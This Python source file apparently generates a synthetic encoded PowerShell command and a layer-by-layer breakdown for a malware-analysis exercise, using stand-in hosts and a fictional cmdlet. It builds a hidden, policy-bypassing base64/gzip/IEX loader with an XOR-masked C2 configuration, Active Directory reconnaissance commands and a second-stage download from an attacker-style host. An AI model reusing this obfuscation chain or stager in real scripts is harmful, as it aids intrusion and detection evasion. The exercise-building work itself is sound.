"""The encoded command: what it hides, layer by layer. All of it is text about an attack: the names end in
.example, the addresses are documentation addresses, and `Invoke-PatchStage` exists nowhere."""
import base64
import json

from .basics import Random, deflate, gzip, sha256

KEY = 0x5A
C2_NAME, C2_ADDRESS = 'cdn.patchwell.example', '192.0.2.145'
STAGE_URL = 'https://cdn.patchwell.example/u/stage2.bin'
SYNC_URL = 'https://cdn.patchwell.example/sync'
BACKUP_URL = 'http://203.0.113.90:8080/alt/sync'
DIRECTORY = r'C:\ProgramData\PatchWell'
DISCOVERY = ['whoami /all', 'ipconfig /all', 'systeminfo', 'net user /domain', 'net group "Domain Admins" /domain',
             'nltest /dclist:harborlight.example', 'nltest /domain_trusts', 'net view /domain', 'arp -a', 'quser']


def command_line():
    """(command line, layers from the outside in)"""
    config = json.dumps({
        'c2': SYNC_URL, 'ip': C2_ADDRESS, 'alt': BACKUP_URL, 'sleep': 300, 'jitter': 10, 'ua': 'PatchWell/2.3',
        'id': 'HBL-7C1E-WS01', 'task': r'\PatchWell\Sync', 'mutex': r'Global\pw-sync-7c1e',
        'path': DIRECTORY + r'\pwsync.ps1'}, separators=(',', ':')).encode()
    # Filler that no compressor can shorten, so that the command line does not fit into 10,000 bytes.
    token = Random('token').hex(1500).encode()
    masked = bytes(b ^ KEY for b in config).hex()
    script = '\r\n'.join(DISCOVERY).encode()
    inner = '\r\n'.join([
        '# PatchWell bootstrap 2.3',
        "$u = '%s'" % STAGE_URL,
        "$d = '%s'" % DIRECTORY,
        '$k = 0x%02X' % KEY,
        "$h = '%s'" % masked,
        "$c = -join ($(for ($i = 0; $i -lt $h.Length; $i += 2) {"
        " [char]([Convert]::ToByte($h.Substring($i, 2), 16) -bxor $k) }))",
        "$r = [Convert]::FromBase64String('%s')" % base64.b64encode(deflate(script)).decode(),
        '$m = New-Object IO.MemoryStream(, $r)',
        '$z = New-Object IO.Compression.DeflateStream($m, [IO.Compression.CompressionMode]::Decompress)',
        '$q = (New-Object IO.StreamReader($z)).ReadToEnd()',
        "$t = '%s'" % token.decode(),
        'New-Item -ItemType Directory -Force -Path $d | Out-Null',
        'Invoke-PatchStage -Uri $u -Config $c -Survey $q -Token $t -OutFile "$d\\pwsync.ps1"',
        'Start-Process powershell.exe -WindowStyle Hidden -ArgumentList "-NoP -W Hidden -File $d\\pwsync.ps1"',
        ''])
    packed = gzip(inner.encode())
    outer = ("$b=[Convert]::FromBase64String('%s');$m=New-Object IO.MemoryStream(,$b);"
             "$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress);"
             "IEX (New-Object IO.StreamReader($g)).ReadToEnd()" % base64.b64encode(packed).decode())
    encoded = base64.b64encode(outer.encode('utf-16-le')).decode()
    line = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -W Hidden -Exec Bypass -enc '
            + encoded)

    def layer(number, parent, steps, data, note, text=True, **more):
        row = {'layer': number, 'inside': parent, 'steps': steps, 'bytes': len(data), 'sha256': sha256(data),
               'note': note}
        if text:
            row['text'] = data.decode()
        row.update(more)
        return row

    layers = [
        layer(0, None, [], line.encode(), 'the command line as logged', text=False),
        layer(1, 0, ['base64', 'utf-16le'], outer.encode(), 'script block 1'),
        layer(2, 1, ['base64', 'gzip'], inner.encode(), 'script block 2; holds a URL in plain text'),
        layer(3, 2, ['hex', 'xor'], config, 'configuration as JSON', key='0x%02x' % KEY),
        layer(4, 2, ['base64', 'deflate'], script, 'the discovery commands, one a line'),
    ]
    return line, outer, inner, layers
